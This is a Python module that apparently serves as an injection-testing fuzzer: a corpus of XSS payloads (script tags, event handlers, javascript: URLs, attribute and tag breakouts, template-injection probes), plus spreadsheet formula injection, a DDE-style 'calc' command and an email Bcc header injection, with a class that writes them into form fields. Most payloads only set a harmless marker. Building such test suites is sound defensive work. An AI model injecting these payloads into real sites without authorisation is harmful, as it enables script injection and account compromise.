"""Texts that would run, or become part of a page, where a page takes what somebody typed for its own.

Each says so when it succeeds: it sets `window.__xss`, opens a dialog, or leaves an element with `data-xss`. All are one
line of letters that are seen, so that every field of text takes them.
"""

from __future__ import annotations

import itertools
from collections.abc import Sequence
from dataclasses import dataclass, field

RAN = "window.__xss=1"

CORPUS = [
    # Elements
    "<script>window.__xss=1</script>",
    "<ScRiPt data-xss>window.__xss=1</sCrIpT >",
    "<script src=data:,window.__xss=1></script>",
    "<img src=x onerror=window.__xss=1>",
    "<img data-xss src=data:,x>",
    "<svg/onload=window.__xss=1>",
    "<svg data-xss><script>window.__xss=1</script></svg>",
    '<svg><animate onbegin="window.__xss=1" attributeName=x dur=1s></svg>',
    "<math><mtext><b data-xss>x</b></mtext></math>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<iframe data-xss src=javascript:parent.__xss=1>",
    "<object data-xss data=javascript:window.__xss=1></object>",
    "<embed data-xss src=javascript:window.__xss=1>",
    "<body data-xss onload=window.__xss=1>",
    "<details data-xss open ontoggle=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    "<audio src=x onerror=window.__xss=1></audio>",
    "<input data-xss autofocus onfocus=window.__xss=1>",
    "<select data-xss autofocus onfocus=window.__xss=1>",
    "<marquee data-xss onstart=window.__xss=1>x</marquee>",
    "<form data-xss action=javascript:window.__xss=1><button>x",
    "<base data-xss href=//evil.example/>",
    "<meta data-xss http-equiv=refresh content='0;url=/?xss'>",
    "<link data-xss rel=stylesheet href=data:text/css,body{display:none}>",
    "<style data-xss>body{display:none}</style>",
    "<template data-xss><b>x</b></template>",
    "<c-notice data-xss>xss</c-notice>",
    "<b data-xss>bold</b>",
    # Out of what the text stands in
    '"><b data-xss>x</b>',
    "'><b data-xss>x</b>",
    '" data-xss="1" onmouseover="window.__xss=1',
    "' data-xss='1' onfocus='window.__xss=1' autofocus x='",
    "` data-xss=1 onclick=window.__xss=1 `",
    "</title><b data-xss>x</b>",
    "</textarea><b data-xss>x</b>",
    "</option></select><b data-xss>x</b>",
    "</script><script>window.__xss=1</script>",
    "</style><b data-xss>x</b>",
    "--><b data-xss>x</b><!--",
    "]]><b data-xss>x</b>",
    "<!--<img data-xss src='--><img data-xss src=x onerror=window.__xss=1>'",
    # Languages of templates and of scripts
    "{{ 7|add:1242 }}xss{% now 'Y' %}",
    "{% include 'base.html' %}{% debug %}xss{# gone #}",
    "{{ request.user.password }}${7*7}#{7*7}xss",
    "${window.__xss=1}`;window.__xss=1;//",
    "';window.__xss=1;//\";window.__xss=1;//",
    '{"__proto__": {"xss": 1}, "a": "</script><b data-xss>"}',
    "\\u003cimg src=x onerror=window.__xss=1\\u003e",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;&#60;b data-xss&#62;",
    "＜script＞window.__xss=1＜/script＞",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    # Marks that become markup
    "[xss](javascript:window.__xss=1)",
    '![xss](x"onerror="window.__xss=1)',
    "<javascript:window.__xss=1>",
    "[xss]: data:text/html,<b%20data-xss>",
    "**xss** __xss__ <b data-xss>*xss*</b>",
    'see javascript:window.__xss=1 and http://evil.example/"onmouseover=window.__xss=1',
    "https://evil.example/'><b data-xss>xss</b>",
    # What style sheets, spreadsheets and mails take for theirs
    "expression(window.__xss=1);background:url(javascript:window.__xss=1)",
    '=HYPERLINK("https://evil.example/?xss","xss")',
    "@xss|' /C calc'!A0",
    "xss %0d%0aBcc: evil@example.org",
]
#: Whatever a text stands in, between tags or in an attribute, one of these gets out of it and leaves an element.
ANYWHERE = ("\"'><b data-xss>x</b>", "\"'><img data-xss src=x>")


@dataclass
class Quill:
    """Writes payloads wherever a text is asked for, one after the other, and remembers where it wrote what.

    Each text begins with one that succeeds anywhere; `most` of the corpus follow, as many as fit.
    """

    start: int = 0
    most: int = 2
    corpus: Sequence[str] = tuple(CORPUS)
    first: Sequence[str] = ANYWHERE
    written: dict[str, list[str]] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self._next, self._firsts = itertools.count(self.start), itertools.count(self.start)

    def line(self, place: str, longest: int = 200) -> str:
        chosen = [self.first[next(self._firsts) % len(self.first)]]
        for _ in range(self.most):
            left = longest - len(" ".join(chosen)) - 1
            fitting = [payload for payload in self.corpus if len(payload) <= left and payload not in chosen]
            if fitting:
                chosen.append(fitting[next(self._next) % len(fitting)])
        self.written[place] = chosen
        return " ".join(chosen)

    def prose(self, place: str) -> str:
        """On lines of their own."""
        chosen = [
            self.first[next(self._firsts) % len(self.first)],
            *(self.corpus[next(self._next) % len(self.corpus)] for _ in range(self.most)),
        ]
        self.written[place] = chosen
        return "\n".join(chosen)

    def address(self, place: str) -> str:
        """The address of a web page, with what addresses may hold of it."""
        chosen = [self.line(place, 300).replace(" ", "+")]
        self.written[place] = chosen
        return f"https://example.org/{chosen[0]}"
